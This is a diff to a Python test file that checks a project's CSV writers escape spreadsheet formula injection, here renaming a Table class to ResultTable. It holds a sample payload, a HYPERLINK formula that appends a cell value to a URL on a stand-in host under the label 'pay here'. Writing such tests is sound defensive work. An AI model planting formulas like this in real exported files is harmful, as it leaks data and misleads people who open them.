@@ -8,7 +8,7 @@ import pytest
 
 from cofund.csv_text import csv_text
 from cofund.report.table_files import write_tables
-from cofund.study.result import Table
+from cofund.study.result import ResultTable
 
 SCRIPT = '=HYPERLINK("http://127.0.0.1/?"&B2,"pay here")'
 STARTS = [
@@ -55,7 +55,7 @@ def test_numbers_nothing_and_flags_have_one_form() -> None:
 def test_every_writer_of_a_table_is_this_one(tmp_path: Path) -> None:
     (path,) = write_tables({"owners": [{"id": SCRIPT, "paid": -7}]}, tmp_path, "csv")
     assert read(path.read_text())[1] == [f"'{SCRIPT}", "-7"]
-    assert read(Table("t", "", ("id", "x"), ((SCRIPT, -1.5),)).csv())[1] == [f"'{SCRIPT}", "-1.500000"]
+    assert read(ResultTable("t", "", ("id", "x"), ((SCRIPT, -1.5),)).csv())[1] == [f"'{SCRIPT}", "-1.500000"]
     code = {path: path.read_text() for path in (Path(__file__).parents[2] / "src" / "cofund").rglob("*.py")}
     assert [path.name for path, text in code.items() if "csv.writer(" in text or "csv.DictWriter(" in text] == [
         "csv_text.py"
